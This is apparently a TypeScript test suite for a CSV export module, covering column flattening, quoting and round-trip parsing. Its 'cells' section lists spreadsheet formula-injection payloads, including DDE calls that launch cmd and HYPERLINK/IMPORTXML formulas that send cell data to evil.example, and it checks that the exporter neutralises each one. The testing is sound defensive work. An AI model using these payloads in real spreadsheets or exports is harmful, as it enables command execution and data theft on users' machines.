import { describe, expect, test } from "bun:test"
import { type TSchema, Type } from "@sinclair/typebox"
import { parse } from "csv-parse/sync"
import fc from "fast-check"
import { nullable } from "../../src/catalogue/kit/index.ts"
import { csv } from "../../src/export/csv.ts"
import { flatten } from "../../src/export/flatten.ts"
import type { TableOptions } from "../../src/export/table.ts"

type Item = Record<string, unknown>

async function* each(items: Item[]) {
  yield* items
}

async function written(items: Item[], options: Partial<TableOptions> = {}): Promise<string> {
  const lines: string[] = []
  const schema: TSchema = options.schema ?? Type.Object({})
  for await (const line of csv(each(items), { schema, ...options })) lines.push(line)
  return lines.join("")
}

const read = (text: string): string[][] =>
  parse(text, { bom: true, record_delimiter: "\r\n", skip_empty_lines: true })

describe("columns", () => {
  const schema = Type.Object({
    name: Type.String(),
    price: nullable(Type.Object({ amount: Type.Number(), currency: Type.String() })),
    tags: Type.Array(Type.String()),
    links: Type.Record(Type.String(), Type.String()),
    sold: Type.Boolean(),
  })

  test("begin with the schema's, lists and open objects are where their field is", async () => {
    const [header, row] = read(
      await written(
        [{ name: "a", price: null, tags: ["x", "y"], links: { home: "h" }, sold: true, more: 1 }],
        { schema },
      ),
    )
    expect(header).toEqual([
      "name",
      "price.amount",
      "price.currency",
      "tags.0",
      "tags.1",
      "links.home",
      "sold",
      "more",
    ])
    expect(row).toEqual(["a", "", "", "x", "y", "h", "true", "1"])
  })

  test("do not depend on the items' order, and are numbered consecutively", async () => {
    const few = { name: "few", tags: ["1"] }
    const many = { name: "many", tags: Array.from({ length: 12 }, (_, index) => String(index)) }
    const one = read(await written([few, many], { schema }))[0]
    const other = read(await written([many, few], { schema }))[0]
    expect(one).toEqual(other!)
    expect(one!.filter((column) => column.startsWith("tags."))).toEqual(
      Array.from({ length: 12 }, (_, index) => `tags.${index}`),
    )
  })

  test("lists of objects keep an object's fields together", async () => {
    const [header] = read(
      await written([
        {
          rows: [
            { a: 1, b: 2 },
            { a: 3, b: 4 },
          ],
        },
      ]),
    )
    expect(header).toEqual(["rows.0.a", "rows.0.b", "rows.1.a", "rows.1.b"])
  })

  test("an empty dataset has the schema's header", async () => {
    expect(await written([], { schema })).toBe("\ufeffname,price.amount,price.currency,sold\r\n")
  })

  test("further fields of later items are kept as JSON in the last column", async () => {
    const items: Item[] = Array.from({ length: 2500 }, (_, n) => ({ name: `n${n}` }))
    items[2300] = { name: "late", extra: { deep: "value" } }
    const rows = read(await written(items, { schema: Type.Object({ name: Type.String() }) }))
    expect(rows[0]).toEqual(["name", "_rest"])
    expect(rows).toHaveLength(2501)
    expect(rows[1]).toEqual(["n0", ""])
    expect(rows[2301]).toEqual(["late", '{"extra.deep":"value"}'])
  })

  test("an object that is null in each of many items adds nothing to the last column", async () => {
    const news = Type.Union([Type.Object({ title: Type.String() }), Type.Null()])
    const items = Array.from({ length: 2001 }, () => ({ name: "n", news: null }))
    const rows = read(await written(items, { schema: Type.Object({ name: Type.String(), news }) }))
    expect(rows[0]).toEqual(["name", "news.title", "_rest"])
    expect(rows[1]).toEqual(["n", "", ""])
  })
})

describe("cells", () => {
  test("random nested items are restored by an independent parser", async () => {
    const text = fc.string({ unit: "grapheme", maxLength: 12 })
    const leaf = fc.oneof(
      text,
      fc.constantFrom('"', ",", "\r\n", "\n", ' "x" ', "a,b", "''"),
      fc.double({ noNaN: true, noDefaultInfinity: true }),
      fc.integer(),
      fc.boolean(),
      fc.constant(null),
    )
    const name = fc.stringMatching(/^[a-z]{1,4}$/)
    const { item } = fc.letrec((tie) => ({
      item: fc.dictionary(name, tie("value"), { maxKeys: 5 }),
      value: fc.oneof(
        { maxDepth: 3 },
        leaf,
        fc.array(tie("value"), { maxLength: 3 }),
        fc.dictionary(name, tie("value"), { maxKeys: 3 }),
      ),
    })) as { item: fc.Arbitrary<Item> }
    await fc.assert(
      fc.asyncProperty(fc.array(item, { minLength: 1, maxLength: 8 }), async (items) => {
        const rows: string[][] = parse(await written(items), {
          bom: true,
          record_delimiter: "\r\n",
          relax_column_count: true,
        })
        const [header, ...body] = rows
        for (const [index, item] of items.entries()) {
          for (const [column, value] of flatten(item)) {
            const cell = body[index]?.[header!.indexOf(column)] ?? ""
            const wanted = value === null ? "" : String(value)
            const guarded = typeof value === "string" && cell === `'${wanted}`
            expect(cell === wanted || guarded, `${column}: ${JSON.stringify(value)}`).toBe(true)
          }
        }
      }),
      { numRuns: 1500 },
    )
  })

  const payloads = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=1+1\r\n=2+2",
    '="a,b"',
    "=1+1,2",
  ]
  for (const payload of payloads) {
    test(`not a formula: ${JSON.stringify(payload)}`, async () => {
      const rows: string[][] = parse(await written([{ cell: payload, other: 1 }]), {
        bom: true,
        record_delimiter: "\r\n",
      })
      expect(rows[1]![0]).toBe(`'${payload}`)
      expect(rows[1]![1]).toBe("1")
    })
  }

  const plain: [value: unknown, cell: string][] = [
    [-5, "-5"],
    [1e21, "1e+21"],
    [false, "false"],
    ["", ""],
    ["a=b", "a=b"],
    ["'quoted'", "'quoted'"],
  ]
  for (const [value, cell] of plain) {
    test(`unchanged: ${JSON.stringify(value)}`, async () => {
      expect(read(await written([{ cell: value, x: 1 }]))[1]![0]).toBe(cell)
    })
  }

  test("RFC 4180: CRLF, quotes doubled, quotes only where needed", async () => {
    expect(await written([{ a: 'say "hi"', b: "two\nlines", c: "plain" }])).toBe(
      '\ufeffa,b,c\r\n"say ""hi""","two\nlines",plain\r\n',
    )
  })

  test("column names are cells, too", async () => {
    const [header] = read(await written([{ "=1+1": 1, 'a"b': 2 }]))
    expect(header).toEqual(["'=1+1", 'a"b'])
  })
})
